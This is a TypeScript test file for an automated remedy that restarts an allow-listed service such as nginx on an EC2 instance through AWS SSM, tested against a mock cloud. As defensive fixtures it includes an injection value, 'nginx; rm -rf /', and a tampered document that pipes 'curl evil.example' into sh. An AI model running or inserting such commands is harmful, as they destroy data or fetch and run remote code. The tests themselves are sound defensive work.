import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { awsError, scriptedCloud } from '#testkit/scripted-cloud.ts';
import { restartServiceDocument } from './documents.ts';
import { restartService } from './restart-service.ts';

const site = { partition: 'aws', account: '123456789012', region: 'eu-west-1' };
const instanceId = 'i-0123456789abcdef0';
const remedy = restartService.with({ instanceId, service: 'nginx', alarm: 'web-down' });
const content = JSON.stringify(restartServiceDocument.content, null, 2);
const now = Date.parse('2026-11-20T09:00:00Z');

/** An instance with an agent, whose alarm becomes quiet when nginx is restarted. */
function world({ Content = content, PingStatus = 'Online' as 'Online' | 'ConnectionLost', ends = 'Success' as 'Success' | 'Failed' } = {}) {
  const runs: { Status: 'Success' | 'Failed'; Output: string; RequestedDateTime: Date }[] = [];
  let ringing = true;
  const cloud = scriptedCloud({ now: () => now })
    .on('ssm', 'describeInstanceInformation', () => ({
      InstanceInformationList: [{ InstanceId: instanceId, PingStatus, PlatformType: 'Linux' as const }],
    }))
    .on('ssm', 'describeDocument', () => ({ Document: { DocumentVersion: '4', Hash: 'abc123' } }))
    .on('ssm', 'getDocument', () => ({ Content }))
    .on('cloudwatch', 'describeAlarms', () => ({
      MetricAlarms: [
        {
          AlarmName: 'web-down',
          StateValue: ringing ? ('ALARM' as const) : ('OK' as const),
          Dimensions: [{ Name: 'InstanceId', Value: instanceId }],
        },
      ],
    }))
    .on('ssm', 'listCommandInvocations', () => ({
      CommandInvocations: runs.map(({ Output, ...run }) => ({ ...run, CommandPlugins: [{ Output }] })),
    }))
    .on('ssm', 'sendCommand', () => {
      runs.unshift({
        Status: ends,
        Output: ends === 'Success' ? 'active\n' : 'Job for nginx.service failed',
        RequestedDateTime: new Date(now),
      });
      ringing = ends !== 'Success';
      return {};
    });
  return cloud;
}

test('runs our own document, the very version that was looked at, with a service of the list', async () => {
  const state = await remedy.observe(world().reader(site));
  expect(remedy.refuses(state)).toBeUndefined();
  expect(remedy.fix(state)).toMatchObject([
    {
      operation: 'sendCommand',
      input: {
        DocumentName: 'Selfheal-RestartService',
        DocumentVersion: '4',
        DocumentHash: 'abc123',
        InstanceIds: [instanceId],
        Parameters: { service: ['nginx'] },
      },
    },
  ]);
});

test('takes no service that is not on the list, and no text that could be more than a name', () => {
  for (const service of ['sshd', 'nginx; rm -rf /', 'nginx\nreboot', '']) {
    expect(() => restartService.with({ instanceId, service })).toThrow(expect.objectContaining({ code: 'bad-params' }));
  }
});

test('heals, keeps what the command printed, and does not run it again', async () => {
  const cloud = world();
  const before = await remedy.observe(cloud.reader(site));
  for (const call of remedy.fix(before)) await cloud.writer(site, 'inc-1').send(call);
  const healed = await remedy.observe(cloud.reader(site));
  expect(remedy.wrong(healed)).toBeUndefined();
  expect(healed).toMatchObject({ last: { status: 'Success', output: 'active' } });
  expect(remedy.comparable(healed)).toEqual(remedy.comparable(remedy.after(before)));
  expect(remedy.fix(healed)).toEqual([]);
});

test('a command that failed is not called a heal, and is not tried again without a person', async () => {
  const cloud = world({ ends: 'Failed' });
  for (const call of remedy.fix(await remedy.observe(cloud.reader(site)))) await cloud.writer(site, 'inc-1').send(call);
  const state = await remedy.observe(cloud.reader(site));
  expect(remedy.wrong(state)).toBe('the alarm web-down rings');
  expect(remedy.refuses(state)).toBe('the last run ended as Failed: Job for nginx.service failed');
});

test('waits while a run is under way', () => {
  const running = {
    online: true,
    platform: 'Linux',
    document: { ours: true, version: '4', hash: 'abc123' },
    alarm: { ringing: true, ofInstance: true },
    last: { status: 'InProgress', output: '' },
  };
  expect(remedy.wrong(running)).toBeDefined();
  expect(remedy.fix(running)).toEqual([]);
});

test('refuses a document that is not as ours, or not there, and an instance that does not answer', async () => {
  const refused = async (cloud: ReturnType<typeof world>) => remedy.refuses(await remedy.observe(cloud.reader(site)));
  expect(await refused(world({ Content: content.replace('systemctl restart', 'curl evil.example | sh;') }))).toMatch(/somebody changed it/);
  expect(await refused(world({ Content: 'not JSON' }))).toMatch(/somebody changed it/);
  expect(await refused(world({ PingStatus: 'ConnectionLost' }))).toMatch(/does not answer/);
  const without = world().on('ssm', 'describeDocument', () => {
    throw awsError('InvalidDocument', { code: 'no-such-resource' });
  });
  expect(await refused(without)).toMatch(/its runbook says/);
});

test('the runbook shows the document as it is', () => {
  const runbook = readFileSync(new URL('../../runbooks/ssm.restart-service.md', import.meta.url), 'utf8');
  const [, shown = ''] = /```json\n([\s\S]*?)```/.exec(runbook) ?? [];
  expect(JSON.parse(shown)).toEqual(restartServiceDocument.content);
});
